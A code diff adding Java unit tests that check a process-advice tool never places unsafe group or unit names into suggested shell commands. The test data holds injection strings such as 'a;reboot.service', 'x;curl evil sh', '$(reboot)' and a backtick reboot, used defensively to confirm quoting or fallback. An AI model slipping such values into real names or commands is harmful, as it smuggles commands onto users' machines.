@@ -239,6 +239,34 @@ class AdviceTest {
         .doesNotContain("kill", "Stop " + program.substring(program.lastIndexOf('/') + 1));
   }
 
+  /**
+   * A user can give groups below their own any name, and a person copies the command to a shell.
+   */
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "SYSTEM_SERVICE | --now -H evil@host.service | /system.slice/--now -H evil@host.service",
+        "SYSTEM_SERVICE | a;reboot.service | /system.slice/a;reboot.service",
+        "LXC | x;curl evil sh | /user.slice/user-1000.slice/user@1000.service/lxc.payload.x",
+        "LXC | x | /user.slice/user-1000.slice/user@1000.service/lxc.payload.x",
+        "MACHINE | $(reboot) | /machine.slice/machine-x.scope",
+        "SOCKET_UNIT | a`reboot`.socket | /user.slice/a.socket"
+      })
+  void aNameThatIsNoPlainWordStandsInNoCommand(Kind kind, String name, String path) {
+    assertThat(advice(Some.process(70, "/usr/bin/x").group(kind, name, path).by("60 y")))
+        .isEqualTo("Stop x (pid 70) if it is not needed: kill 70");
+  }
+
+  @Test
+  void aNameWithABackslashIsOneWordOfAShell() {
+    assertThat(
+            advice(
+                Some.process(70, "/usr/bin/x")
+                    .group(Kind.SYSTEM_SERVICE, "a@b\\x2dc.service", "/system.slice/a.service")))
+        .endsWith("sudo systemctl stop 'a@b\\x2dc.service'");
+  }
+
   @Test
   void aJobIsNoReasonToStopWhatStartsJobs() {
     Some job =
